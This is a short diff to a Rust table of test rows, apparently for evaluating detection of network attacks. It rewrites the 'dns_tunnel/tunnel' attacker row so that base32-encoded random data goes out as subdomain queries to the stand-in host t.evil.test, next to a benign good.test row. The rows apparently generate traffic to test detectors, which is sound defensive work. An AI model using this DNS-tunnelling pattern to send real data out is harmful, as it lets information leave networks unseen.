@@ -114,8 +114,9 @@ const ROWS: &[Row] = &[
     row(
         "dns_tunnel/tunnel",
         Attacker,
-        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t \
-         $(head -c 30 /dev/urandom | base32 -w0 | tr A-Z= a-zx).t.evil.test; done",
+        "head -c 1800 /dev/urandom | base32 -w48 | tr A-Z= a-zx | \
+         while read -r word; do echo \"@$t +tries=1 +time=1 $word.t.evil.test\"; done > $D/words.dns; \
+         $A dig -f $D/words.dns",
         "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t www$i.shop$i.good.test; done",
     ),
     row(
